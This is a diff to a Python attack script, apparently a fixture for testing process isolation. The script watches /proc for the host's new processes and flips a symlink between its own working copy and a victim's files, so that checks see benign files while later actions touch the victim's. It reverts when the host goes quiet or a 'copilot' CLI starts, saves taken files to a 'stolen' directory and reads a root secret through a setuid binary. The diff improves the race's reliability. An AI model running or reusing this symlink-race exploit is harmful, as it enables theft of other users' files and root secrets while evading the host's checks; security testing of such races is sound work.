@@ -73,13 +73,20 @@ while not os.path.exists(go) and not os.path.exists(stop):
     time.sleep(0.05)  # asleep: waits for the host's next task
 done = {"flips": 0, "seen": 0, "copied": 0, "cli": False}
 targets = [victim_dir, victim_clone]
-pids = [int(p) for p in os.listdir("/proc") if p.isdigit()]
-following, watched, taken, nxt = set(), set(pids), set(), max(pids) + 1
+pid_max = int(open("/proc/sys/kernel/pid_max").read())  # pids wrap around: new is not higher
+
+
+def alive():
+    return {int(p) for p in os.listdir("/proc") if p.isdigit()}
+
+
+known, following, watched, taken, last = alive(), set(), set(), set(), None
 
 
 def point(target):
     os.symlink(target, work + ".new")
     os.replace(work + ".new", work)
+    done["at"] = target
 
 
 def take(pid):
@@ -108,13 +115,20 @@ def take(pid):
 
 os.makedirs(stolen, exist_ok=True)
 # Its own working copy when the host looks (its first process: the working copy made, checked),
-# another's files when it acts (every later one), flipped at each process the host starts.
+# another's files when it acts (every later one), flipped at each process the host starts; its
+# own again once the host is quiet for a moment.
+quiet = time.monotonic()
 while not os.path.exists(stop) and not done["cli"]:
-    fresh = {int(p) for p in os.listdir("/proc") if p.isdigit() and int(p) >= nxt}
-    fresh |= {pid for pid in range(nxt, nxt + 64) if os.path.exists(f"/proc/{pid}")}
+    if done.get("at", own) != own and time.monotonic() - quiet > 0.5:
+        point(own)  # the host went quiet: its own files again, for whatever the host does next
+    current = alive()
+    if last is not None:  # the next pids, for a process that lives less than one listing
+        current |= {q % pid_max for q in range(last + 1, last + 33) if os.path.exists(f"/proc/{q % pid_max}")}
+    fresh = current - known
+    known = current
     if fresh:
         following |= fresh
-        nxt = max(fresh) + 1
+        last = max(fresh)
     for pid in sorted(following):
         try:
             if os.stat(f"/proc/{pid}").st_uid != uid:
@@ -122,6 +136,7 @@ while not os.path.exists(stop) and not done["cli"]:
             command = open(f"/proc/{pid}/cmdline", "rb").read()
         except OSError:
             following.discard(pid)
+            watched.discard(pid)
             continue
         if b"copilot" in command:
             done["cli"] = True  # the host prepared, its CLI starts: its own files again
@@ -131,11 +146,13 @@ while not os.path.exists(stop) and not done["cli"]:
         if pid not in watched:
             watched.add(pid)
             done["seen"] += 1
+            quiet = time.monotonic()
             point(targets[done["flips"] % len(targets)])
             done["flips"] += 1
 os.symlink(own, work + ".new")
 os.replace(work + ".new", work)
 os.system(f'"{suid_cat}" "{root_secret}" > "{stolen}/root.txt" 2>/dev/null')
+done.pop("at", None)
 json.dump(done, open(report, "w"))
 """
 
